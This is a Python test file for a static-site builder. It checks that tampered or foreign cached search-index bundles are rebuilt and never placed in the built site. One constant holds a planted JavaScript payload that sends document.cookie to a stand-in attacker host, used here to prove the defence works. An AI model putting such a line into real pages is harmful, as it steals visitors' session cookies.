"""The search index's cached bundles are sealed (site/search_shards.py): a bundle that none of
this user's builds made, such as one in a cache folder restored from another branch's CI run or
committed by a pull request, is never placed in the site; the shard is indexed again."""
from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from site_helpers import build, make_borough

pytestmark = pytest.mark.slow

PLANTED = b"/* planted */ fetch('https://attacker.example/?' + document.cookie);"


@pytest.fixture
def borough(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "user-cache"))
    folder = tmp_path / "borough"
    folder.mkdir()
    make_borough(folder, 6, search="pagefind", search_shards=3)
    build(folder)
    return folder


def _bundle(borough: Path, shard: str) -> Path:
    key = json.loads((borough / "site" / "pagefind" / "shards.json").read_text(
        encoding="utf-8"))["inputs"][shard]
    return borough / ".localoffer-cache" / "search" / key


def test_a_changed_file_in_a_cached_bundle_is_never_placed_in_the_site(borough: Path) -> None:
    script = _bundle(borough, "1/") / "pagefind.js"
    script.unlink()  # the site's copy is a hard link to the same file: leave it as it was
    script.write_bytes(PLANTED)
    shutil.rmtree(borough / "site")  # every bundle is placed in the site again
    build(borough)
    placed = (borough / "site" / "pagefind" / "1" / "pagefind.js").read_bytes()
    assert b"planted" not in placed
    assert b"mergeIndex" in placed  # Pagefind's own script, from a new run
    assert b"planted" not in script.read_bytes()  # the bundle was made again


def test_bundles_another_key_sealed_are_made_again(
        borough: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    entry = _bundle(borough, "0/") / "pagefind-entry.json"
    held = tmp_path / "held-entry.json"
    os.link(entry, held)  # keeps the file's number in use, so a new file cannot take it
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "another-users-cache"))
    shutil.rmtree(borough / "site")
    build(borough)
    assert entry.stat().st_ino != held.stat().st_ino  # indexed again, not reused
    assert (borough / "site" / "pagefind" / "0" / "pagefind-entry.json").stat().st_ino \
        == entry.stat().st_ino
    # The next build by the same user reuses what it sealed.
    shutil.rmtree(borough / "site")
    build(borough)
    assert (borough / "site" / "pagefind" / "0" / "pagefind-entry.json").stat().st_ino \
        == entry.stat().st_ino
